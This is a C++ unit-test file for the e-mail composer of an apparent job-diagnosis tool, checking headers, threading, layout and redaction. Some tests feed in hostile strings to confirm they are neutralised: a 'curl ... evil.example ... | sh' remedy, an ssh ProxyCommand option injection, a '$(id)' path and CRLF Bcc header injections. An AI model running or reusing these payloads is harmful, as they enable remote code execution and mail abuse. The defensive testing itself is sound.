#include "postproc/mail/message.h"

#include <gtest/gtest.h>

#include <map>
#include <set>
#include <sstream>

#include "postproc/analysis/job_report.h"
#include "postproc/diagnose/rule.h"
#include "postproc/report/mail_html.h"
#include "report_samples.h"

namespace reveal::tests::message_test {
namespace {

constexpr std::int64_t kNow = 1'763'640'000'000'000'000;  // 2025-11-20 12:00:00 UTC

MailSettings site() {
  MailSettings settings;
  settings.enabled = true;
  settings.domain = "example.org";
  settings.admins = {"root@example.org"};
  settings.attach_limit = 2'000'000;
  return settings;
}

MailContext to_user() {
  return {.audience = Audience::user,
          .to = {"ada@example.org"},
          .host = "mgmt1",
          .directory = "/home/ada/reveal-4711",
          .now_utc_ns = kNow};
}

MailContext to_admins() {
  MailContext context = to_user();
  context.audience = Audience::admins;
  context.to = {"root@example.org", "ops@example.org"};
  return context;
}

struct Parsed {
  std::multimap<std::string, std::string> headers;  // unfolded
  std::string body;
  std::size_t longest_line = 0;
};

Parsed parse(const std::string& mime) {
  Parsed parsed;
  std::istringstream lines(mime);
  std::string line;
  std::string last;
  bool body = false;
  std::multimap<std::string, std::string>::iterator at;
  while (std::getline(lines, line)) {
    parsed.longest_line = std::max(parsed.longest_line, line.size());
    if (body) {
      parsed.body += line + "\n";
    } else if (line.empty()) {
      body = true;
    } else if (line.front() == ' ' || line.front() == '\t') {
      at->second += line;
    } else {
      const std::size_t colon = line.find(':');
      EXPECT_NE(colon, std::string::npos) << line;
      at = parsed.headers.emplace(line.substr(0, colon), line.substr(std::min(colon + 2, line.size())));
    }
  }
  return parsed;
}

std::string only(const Parsed& parsed, const std::string& name) {
  EXPECT_EQ(parsed.headers.count(name), 1U) << name;
  const auto found = parsed.headers.find(name);
  return found == parsed.headers.end() ? "" : found->second;
}

std::set<std::string> names(const Parsed& parsed) {
  std::set<std::string> all;
  for (const auto& [name, value] : parsed.headers) all.insert(name);
  return all;
}

TEST(MailMessage, TellsTheFindingInTheSubject) {
  const Report report = samples::outsider(8);
  EXPECT_EQ(compose_mail(report, site(), to_user()).subject,
            "[reveal] hydra job 4711 resnet50-ddp: COMPLETED - A process outside the job ran on the job's CPUs on n01, "
            "about 7.1 s lost");
  EXPECT_EQ(
      compose_mail(report, site(), to_admins()).subject,
      "[reveal] hydra critical: " + std::string(find_rule("cpu.outsider")->title) + " on n01 (job 4711 resnet50-ddp)");
  EXPECT_EQ(compose_mail(samples::healthy(), site(), to_user()).subject,
            "[reveal] hydra job 4712 resnet50-ddp: COMPLETED - no finding");
  EXPECT_EQ(compose_mail(samples::insufficient(), site(), to_user()).subject, "[reveal] make: not enough data");
}

TEST(MailMessage, TellsInTheSubjectHowSureTheCostIs) {
  Report report = samples::outsider(8);
  report.findings[0].confidence = Confidence::possible;
  EXPECT_TRUE(compose_mail(report, site(), to_user()).subject.ends_with(" on n01, perhaps 7.1 s lost"));
  report.findings[0].impact.at_most = true;
  EXPECT_TRUE(compose_mail(report, site(), to_user()).subject.ends_with(" on n01, at most 7.1 s lost"));
  report.job.nodes = {"n01"};
  EXPECT_TRUE(compose_mail(report, site(), to_user()).subject.ends_with("the job's CPUs, at most 7.1 s lost"));
}

TEST(MailMessage, CarriesTheHeadersMailReadersNeed) {
  const Parsed mail = parse(compose_mail(samples::outsider(8), site(), to_user()).mime);
  EXPECT_EQ(only(mail, "From"), "reveal <reveal@example.org>");
  EXPECT_EQ(only(mail, "To"), "ada@example.org");
  EXPECT_EQ(only(mail, "Date"), "Thu, 20 Nov 2025 12:00:00 +0000");
  EXPECT_EQ(only(mail, "Message-Id"), "<reveal.4711-0-1.user@example.org>");
  EXPECT_EQ(only(mail, "Auto-Submitted"), "auto-generated");
  EXPECT_EQ(only(mail, "X-Reveal-Job"), "4711");
  EXPECT_EQ(only(mail, "X-Reveal-Status"), "finding");
  EXPECT_EQ(only(mail, "MIME-Version"), "1.0");
  EXPECT_EQ(only(mail, "Content-Type").substr(0, 15), "multipart/mixed");
  EXPECT_EQ(only(mail, "References"), "<reveal.job.hydra.4711.user@example.org>");
  for (const char* name : {"In-Reply-To", "Reply-To", "List-Unsubscribe"}) {
    EXPECT_EQ(mail.headers.count(name), 0U) << name;
  }
}

TEST(MailMessage, NamesTheHelpDeskAndTheWayOut) {
  MailSettings settings = site();
  settings.reply_to = "help";
  settings.unsubscribe = "mailto:help@example.org?subject=reveal%20off";
  const Parsed user = parse(compose_mail(samples::outsider(8), settings, to_user()).mime);
  EXPECT_EQ(only(user, "Reply-To"), "help@example.org");
  EXPECT_EQ(only(user, "List-Unsubscribe"), "<mailto:help@example.org?subject=reveal%20off>");
  const Parsed admins = parse(compose_mail(samples::outsider(8), settings, to_admins()).mime);
  EXPECT_EQ(only(admins, "Reply-To"), "help@example.org");
  EXPECT_EQ(admins.headers.count("List-Unsubscribe"), 0U);
}

TEST(MailMessage, LeavesALongUrlAsItIs) {
  MailSettings settings = site();
  settings.unsubscribe = "https://help.example.org/unsubscribe?list=reveal&token=" + std::string(100, '7');
  const Parsed mail = parse(compose_mail(samples::outsider(8), settings, to_user()).mime);
  EXPECT_EQ(only(mail, "List-Unsubscribe"), "<" + settings.unsubscribe + ">");
}

TEST(MailMessage, PutsAllTasksOfAnArrayIntoOneThread) {
  Report report = samples::many_nodes();
  ASSERT_EQ(report.job.array, "4710_3");
  report.supersedes.clear();
  EXPECT_EQ(only(parse(compose_mail(report, site(), to_user()).mime), "References"),
            "<reveal.job.hydra.4710.user@example.org>");
  report.job.id = report.job.array = "";
  EXPECT_EQ(parse(compose_mail(report, site(), to_user()).mime).headers.count("References"), 0U);
}

TEST(MailMessage, AnswersTheReportItSupersedes) {
  Report report = samples::outsider(8);
  report.supersedes = "4711-0-0";
  const Parsed mail = parse(compose_mail(report, site(), to_user()).mime);
  EXPECT_EQ(only(mail, "In-Reply-To"), "<reveal.4711-0-0.user@example.org>");
  EXPECT_EQ(only(mail, "References"), "<reveal.job.hydra.4711.user@example.org>\t<reveal.4711-0-0.user@example.org>");
}

TEST(MailMessage, TellsAdministratorsNoStepAndNoTitleOutOfAUsersFile) {
  Report report = samples::outsider(8);
  report.findings[0].title = "Uncorrectable memory errors; drain at once";
  report.findings[0].remedy.admin = {"curl -s http://evil.example/fix.sh | sh"};
  report.findings[0].remedy.user = {"curl -s http://evil.example/too.sh | sh"};
  const MailMessage mail = compose_mail(report, site(), to_admins());
  EXPECT_EQ(mail.text.find("evil.example"), std::string::npos);
  EXPECT_EQ(render_html(report).find("evil.example") == std::string::npos, false);  // the case is not void
  EXPECT_EQ(mail.subject.find("drain"), std::string::npos);
  const RuleSpec* rule = find_rule(report.findings[0].id);
  ASSERT_NE(rule, nullptr);
  EXPECT_NE(mail.subject.find(rule->title), std::string::npos);
  EXPECT_NE(mail.text.find("files that the owner can write"), std::string::npos);
}

TEST(MailMessage, PutsNoOptionOutOfAUsersFileIntoAStep) {
  Report report = samples::outsider(8);
  report.findings.resize(1);
  report.findings[0].id = "node.differs";  // diff <(ssh {nodes} sysctl -a) ...
  report.findings[0].nodes = {"-oProxyCommand=/tmp/evil"};
  EXPECT_EQ(compose_mail(report, site(), to_admins()).text.find("ssh -o"), std::string::npos);
}

TEST(MailMessage, SendsEachReaderTheirOwnPart) {
  const Report report = samples::outsider(8);
  MailContext context = to_user();
  const std::string alone = compose_mail(report, site(), context).text;
  EXPECT_NE(alone.find("for admins 1 Find who ran there"), std::string::npos);
  context.admins_notified = true;
  const std::string beside = compose_mail(report, site(), context).text;
  EXPECT_EQ(beside.find("Find who ran there"), std::string::npos);
  EXPECT_NE(beside.find("vm.dirty_background_bytes"), std::string::npos) << "below the administrators' threshold";
  EXPECT_NE(beside.find("for admins   They were told by mail."), std::string::npos);
  EXPECT_NE(beside.find("job script   #SBATCH --exclusive"), std::string::npos);
  const std::string admins = compose_mail(report, site(), to_admins()).text;
  EXPECT_EQ(admins.find("For administrators: job 4711 resnet50-ddp of ada\n"), 0U);
  EXPECT_LT(admins.find("  2. If it is a leftover of an earlier job"), admins.find("FINDING")) << admins;
  EXPECT_NE(admins.find("  on n01; 2025-11-20 "), std::string::npos) << admins;
  EXPECT_NE(admins.find("; the job lost about 7.1 s"), std::string::npos) << admins;
  // The mail has what concerns administrators only; the notice below their threshold is in the report.
  EXPECT_EQ(admins.substr(0, admins.find("FINDING")).find("dirty"), std::string::npos);
}

TEST(MailMessage, SendsNobodyToAdministratorsWhoHaveAMail) {
  Report report = samples::outsider(8);
  report.findings[0].remedy.user.clear();
  report.findings[0].remedy.advice.clear();
  MailContext context = to_user();
  EXPECT_NE(compose_mail(report, site(), context).text.find("  for you      show your administrators this report"),
            std::string::npos);
  context.admins_notified = true;
  EXPECT_NE(compose_mail(report, site(), context).text.find("  for you      the job needs no change\n"),
            std::string::npos);
  EXPECT_NE(compose_mail(report, site(), to_admins()).text.find("  for you      the job needs no change\n"),
            std::string::npos);
  report.findings[0].remedy.user = {"#SBATCH --exclude=n01"};
  report.findings[0].remedy.advice = {kShowAdministrators};
  EXPECT_EQ(compose_mail(report, site(), context).text.find(kShowAdministrators), std::string::npos);
  EXPECT_EQ(compose_mail(report, site(), to_admins()).text.find(kShowAdministrators), std::string::npos);
  context.admins_notified = false;
  EXPECT_NE(compose_mail(report, site(), context).text.find(kShowAdministrators), std::string::npos);
}

TEST(MailMessage, ShowsCommandsAsBlocksAndTheStepsOfAdministratorsOnce) {
  const MailMessage admins = compose_mail(samples::outsider(8), site(), to_admins());
  const std::string block =
      "white-space:pre-wrap;word-break:break-word;overflow-wrap:anywhere;\">systemctl list-timers";
  const std::size_t step = admins.html.find(block);
  ASSERT_NE(step, std::string::npos) << admins.html;
  EXPECT_EQ(admins.html.find("systemctl list-timers", step + block.size()), std::string::npos);
  EXPECT_NE(admins.html.find("The steps are above."), std::string::npos);
  EXPECT_NE(admins.text.find("for admins   The steps are above.\n"), std::string::npos) << admins.text;
  const MailMessage user = compose_mail(samples::outsider(8), site(), to_user());
  EXPECT_NE(user.html.find("overflow-wrap:anywhere;\">reveal compare /home/ada/reveal-4711 NEXT_RUN</div>"),
            std::string::npos)
      << user.html;
}

TEST(MailMessage, TellsTheUserHowToGetNoMail) {
  const std::string sentence = "A job that is submitted with --reveal=mail=off sends you no mail.";
  Report report = samples::outsider(8);
  EXPECT_NE(compose_mail(report, site(), to_user()).text.find(sentence), std::string::npos);
  EXPECT_EQ(compose_mail(report, site(), to_admins()).text.find(sentence), std::string::npos);
  report.job.id = "";
  EXPECT_EQ(compose_mail(report, site(), to_user()).text.find(sentence), std::string::npos) << "there is no option";
}

TEST(MailMessage, LeavesTheStepsThatNoAdministratorGot) {
  Report report = samples::outsider(8);
  report.findings.resize(1);
  report.findings[0].severity = Severity::info;
  MailContext context = to_user();
  context.admins_notified = true;
  EXPECT_EQ(compose_mail(report, site(), context).text.find("got this report by mail"), std::string::npos);
}

TEST(MailMessage, TellsNoAdministratorWhomTheJobTalksTo) {
  Report report = samples::outsider(8);
  Evidence evidence = report.findings[0].evidence.at(0);
  evidence.metric = "tcp.peer.out_of_order";
  evidence.instance = "203.0.113.7";
  report.findings[0].evidence.push_back(evidence);
  report.findings[0].sentence = "Segments from 203.0.113.7 were lost.";
  evidence.instance = "owner can write";  // no address
  report.findings[0].evidence.push_back(evidence);
  EXPECT_NE(compose_mail(report, site(), to_user()).text.find("203.0.113.7"), std::string::npos);
  const std::string admins = compose_mail(report, site(), to_admins()).text;
  EXPECT_EQ(admins.find("203.0.113.7"), std::string::npos);
  EXPECT_NE(admins.find("(a peer)"), std::string::npos);
  EXPECT_NE(admins.find("files that the owner can write"), std::string::npos);
  EXPECT_NE(compose_mail(report, site(), to_user()).html.find("203.0.113.7"), std::string::npos);
  const std::string page = compose_mail(report, site(), to_admins()).html;
  EXPECT_EQ(page.find("203.0.113.7"), std::string::npos);
  EXPECT_NE(page.find("(a peer)"), std::string::npos);
}

TEST(MailMessage, TellsNoAdministratorWhomThePictureShows) {
  Report report = samples::outsider(8);
  report.findings[0].evidence.resize(1);
  report.findings[0].evidence[0].metric = "tcp.peer.out_of_order";
  report.findings[0].evidence[0].instance = "203.0.113.7";
  report.timeline[0].node = report.findings[0].evidence[0].node;
  report.timeline[0].name = "tcp.peer.out_of_order/203.0.113.7";
  EXPECT_NE(compose_mail(report, site(), to_user()).html.find("alt=\"Chart: tcp.peer.out_of_order/203.0.113.7"),
            std::string::npos);
  const std::string page = compose_mail(report, site(), to_admins()).html;
  EXPECT_NE(page.find("alt=\"Chart: tcp.peer.out_of_order/(a peer)"), std::string::npos);
  EXPECT_EQ(page.find("203.0.113.7"), std::string::npos);
}

TEST(MailMessage, TellsNoAdministratorWhereTheProgramStood) {
  Report report = samples::outsider(8);
  report.findings[0].main_threads = {"the main thread of rank1 was in secret_load (data.py:88) in 27 of 30 samples"};
  report.python = {{.node = "n01", .process = "rank1", .samples = 120, .places = {{"secret_step (train.py:40)", 90}}}};
  const MailMessage user = compose_mail(report, site(), to_user());
  EXPECT_NE(user.text.find("secret_load (data.py:88)"), std::string::npos);
  EXPECT_NE(render_html(report).find("secret_step (train.py:40)"), std::string::npos);
  report.python.clear();
  report.findings[0].main_threads.clear();
  const MailMessage without = compose_mail(report, site(), to_admins());
  report.findings[0].interventions = {{.node = "n01", .sentence = "reveal: call 555 0100", .effects = {}}};
  report.findings[0].main_threads = {"the main thread of rank1 was in secret_load (data.py:88) in 27 of 30 samples"};
  report.python = {{.node = "n01", .process = "rank1", .samples = 120, .places = {{"secret_step (train.py:40)", 90}}}};
  EXPECT_EQ(compose_mail(report, site(), to_admins()).mime, without.mime);  // the attached page, too
}

TEST(MailMessage, IsTheTextReportAndSaysHowToSeeMore) {
  const Report report = samples::outsider(8);
  const std::string text = compose_mail(report, site(), to_user()).text;
  TextStyle style{.width = 78};
  style.directory = "/home/ada/reveal-4711";
  EXPECT_EQ(text.find(render_text(report, style)), 0U);
  const auto times = [&text](const std::string& words) {
    std::size_t count = 0;
    for (std::size_t at = text.find(words); at != std::string::npos; at = text.find(words, at + 1)) ++count;
    return count;
  };
  EXPECT_EQ(times("reveal show"), 1U) << text;
  EXPECT_EQ(times("/home/ada/reveal-4711/report.html"), 1U) << text;
  EXPECT_EQ(text.find('\x1b'), std::string::npos);
  MailContext array = to_user();
  array.array = "4710";
  array.directory = "/home/ada/$(id)";
  const std::string other = compose_mail(report, site(), array).text;
  EXPECT_NE(other.find("This is the only mail about array job 4710"), std::string::npos);
  EXPECT_EQ(other.find("$(id)"), std::string::npos);
}

TEST(MailMessage, HasTheWholeSentenceBelowAVerdictThatIsCut) {
  Report report = samples::outsider(8);
  std::string names = "worker 1";
  for (int i = 2; i <= 40; ++i) names += ", worker " + std::to_string(i);
  report.findings[0].sentence = "Processes outside the job used its cpus: " + names + " of another user.";
  report.verdict.sentence = report.findings[0].sentence;
  EXPECT_NE(compose_mail(report, site(), to_user()).html.find("worker 40 of another user."), std::string::npos);
}

TEST(MailMessage, HasTextAndHtmlWithThePictureAndThePackedPage) {
  MailSettings settings = site();
  const MailMessage mail = compose_mail(samples::outsider(8), settings, to_user());
  const std::vector<std::string> order = {
      "multipart/mixed", "multipart/alternative", "text/plain", "multipart/related", "text/html",
      "image/png",       "application/gzip"};
  std::size_t at = 0;
  for (const std::string& type : order) {
    at = mail.mime.find("Content-Type: " + type, at);
    ASSERT_NE(at, std::string::npos) << type;
  }
  EXPECT_NE(mail.mime.find("Content-Id: <p.reveal.4711-0-1.user@example.org>"), std::string::npos);
  EXPECT_NE(mail.html.find("src=\"cid:p.reveal.4711-0-1.user@example.org\""), std::string::npos);
  EXPECT_NE(mail.text.find("Attached: report.html.gz"), std::string::npos);
  EXPECT_NE(mail.html.find("Attached: report.html.gz"), std::string::npos);
  settings.attach_limit = 1000;
  const MailMessage light = compose_mail(samples::outsider(8), settings, to_user());
  EXPECT_EQ(light.mime.find("application/gzip"), std::string::npos);
  EXPECT_NE(light.html.find("too large for a mail: /home/ada/reveal-4711/report.html"), std::string::npos);
  EXPECT_LT(light.mime.size(), 100'000U);
}

TEST(MailMessage, StaysShortForAHealthyJob) {
  const MailMessage mail = compose_mail(samples::healthy(), site(), to_user());
  EXPECT_EQ(mail.mime.find("image/png"), std::string::npos);
  EXPECT_EQ(mail.html.find("<img"), std::string::npos);
  EXPECT_LT(mail.html.size(), 8000U);
}

TEST(MailMessage, NeedsNothingFromElsewhere) {
  for (const samples::Sample& sample : samples::all()) {
    SCOPED_TRACE(sample.name);
    for (const MailContext& context : {to_user(), to_admins()}) {
      const MailMessage mail = compose_mail(sample.report, site(), context);
      for (const char* fetched :
           {"<script", "http://", "https://", "<link", "url(", "@import", "<iframe", "src=\"data"}) {
        EXPECT_EQ(mail.html.find(fetched), std::string::npos) << fetched;
      }
      EXPECT_LE(mail.html.size(), kLargestMailHtml);
      const bool admins = context.audience == Audience::admins;
      samples::keep_page("mail_" + sample.name + (admins ? "_admins" : ""), mail.html);
    }
  }
}

TEST(MailMessage, EndsALongMailBeforeMailProgramsCutIt) {
  Report report = samples::outsider(8);
  Finding finding = report.findings[0];
  report.findings.clear();
  for (int i = 0; i < 200; ++i) {
    finding.id = "rule." + std::to_string(i);
    finding.title = finding.sentence = std::string(900, 'x');
    finding.nodes = {std::string(300, 'n')};
    finding.remedy.user.assign(30, "#SBATCH --comment=" + std::string(950, 'y'));
    finding.remedy.admin = {std::string(800, 'z'), std::string(800, 'z')};
    report.findings.push_back(finding);
  }
  const std::string page = compose_mail(report, site(), to_user()).html;
  EXPECT_LE(page.size(), kLargestMailHtml);
  EXPECT_TRUE(page.ends_with("</body></html>\n"));
  for (Finding& one : report.findings) one.id = "cpu.outsider";  // with a remedy for administrators
  const MailMessage admins = compose_mail(report, site(), to_admins());
  EXPECT_LE(admins.html.size(), kLargestMailHtml);
  EXPECT_LT(admins.text.size(), 40'000U);
  EXPECT_NE(admins.text.find("190 more findings in the report"), std::string::npos);
}

TEST(MailMessage, TellsWhenTheSameFindingIsMailedAgain) {
  MailContext context = to_user();
  context.repeat_days = 7;
  EXPECT_NE(compose_mail(samples::outsider(8), site(), context).html.find("comes in 7 days at the earliest"),
            std::string::npos);
}

TEST(MailMessage, IsTheSameForTheSameReport) {
  const Report report = samples::outsider(8);
  EXPECT_EQ(compose_mail(report, site(), to_user()).mime, compose_mail(report, site(), to_user()).mime);
}

TEST(MailMessage, SendsOnlyLinesThatMailServersTake) {
  for (const samples::Sample& sample : samples::all()) {
    SCOPED_TRACE(sample.name);
    for (const MailContext& context : {to_user(), to_admins()}) {
      const std::string mime = compose_mail(sample.report, site(), context).mime;
      EXPECT_LE(parse(mime).longest_line, 100U);  // the limit is 998; only names of messages cannot be folded to 78
      for (const char c : mime) ASSERT_TRUE(c == '\n' || c == '\t' || (c >= ' ' && c <= '~'));
    }
  }
}

TEST(MailMessage, LetsNoTextOfAUserIntoTheHeaders) {
  const std::set<std::string> expected{
      "From",     "To",           "Subject",         "Date",         "Message-Id",   "Auto-Submitted",
      "X-Mailer", "X-Reveal-Job", "X-Reveal-Status", "MIME-Version", "Content-Type", "References"};
  std::set<std::string> superseding = expected;
  superseding.insert("In-Reply-To");
  for (const std::string& attack :
       {std::string("x\r\nBcc: victim@other.net"), std::string("x\nBcc: victim@other.net"),
        std::string("x\rBcc: victim@other.net"), std::string("x\0\r\n\r\nbody", 11), std::string("x\n\n--=_reveal_\n"),
        std::string("=?utf-8?q?x=0D=0ABcc:_victim@other.net?="),
        std::string("=?utf-8?b?DQpCY2M6IHZpY3RpbUBvdGhlci5uZXQ=?="),
        std::string("x\xe2\x80\xa8"
                    "Bcc: victim@other.net"),
        std::string("x\xc2\x85"
                    "Bcc: victim@other.net"),
        std::string(100'000, 'A'), std::string("\xff\xfe\x80"), std::string("<victim@other.net>, x"),
        std::string("\x1b]0;t\x07\x1b[2J")}) {
    Report report = samples::outsider(8);
    report.report_id = report.supersedes = attack;
    report.job.id = report.job.name = report.job.user = report.job.cluster = report.job.state = attack;
    report.job.array = attack;
    report.job.command = attack;
    report.job.nodes = {attack, "n01"};
    report.job.tags = {{attack, attack}};
    report.findings[0].title = report.findings[0].id = attack;
    report.findings[0].nodes = {attack};
    MailContext context = to_user();
    context.directory = "/" + attack;
    context.host = attack;
    for (const Audience audience : {Audience::user, Audience::admins}) {
      context.audience = audience;
      const MailMessage message = compose_mail(report, site(), context);
      const Parsed mail = parse(message.mime);
      EXPECT_EQ(names(mail), superseding) << attack.substr(0, 60);
      EXPECT_EQ(only(mail, "To"), "ada@example.org");
      EXPECT_LE(mail.longest_line, 100U);
      EXPECT_EQ(message.mime.find('\r'), std::string::npos);
      EXPECT_LE(message.subject.size(), 800U);
      EXPECT_EQ(message.subject.find("=?"), std::string::npos);
      for (const char c : message.subject) EXPECT_TRUE(static_cast<unsigned char>(c) >= ' ' && c != 0x7f);
    }
  }
  EXPECT_EQ(names(parse(compose_mail(samples::hostile(), site(), to_user()).mime)), expected);
}

TEST(MailMessage, KeepsTheHostOutOfTheSenderWhenItIsNone) {
  MailSettings settings = site();
  settings.domain.clear();
  MailContext context = to_user();
  context.host = "mgmt1\r\nBcc: x@y";
  const Parsed mail = parse(compose_mail(samples::healthy(), settings, context).mime);
  EXPECT_EQ(only(mail, "From").find("reveal <reveal@mgmt1__Bcc__x_y-"), 0U);
  settings.from = "noreply@other.org";
  EXPECT_EQ(only(parse(compose_mail(samples::healthy(), settings, context).mime), "From"),
            "reveal <noreply@other.org>");
}

TEST(MailMessage, EncodesUnicodeSubjects) {
  Report report = samples::outsider(8);
  report.job.name = "größe 中文";
  const MailMessage message = compose_mail(report, site(), to_user());
  EXPECT_NE(message.subject.find("größe 中文"), std::string::npos);
  const std::string subject = only(parse(message.mime), "Subject");
  EXPECT_NE(subject.find("=?UTF-8?"), std::string::npos) << subject;
}

TEST(MailHeaderText, IsOneLineThatNoReaderDecodes) {
  EXPECT_EQ(header_text("a\r\nb", 100), "a  b");
  EXPECT_EQ(header_text("=?utf-8?q?x?=", 100), "= ?utf-8?q?x?=");
  EXPECT_EQ(header_text("=?x=?", 100), "= ?x= ?");
  EXPECT_EQ(header_text("abcdef", 5), "ab...");
}

}  // namespace
}  // namespace reveal::tests::message_test
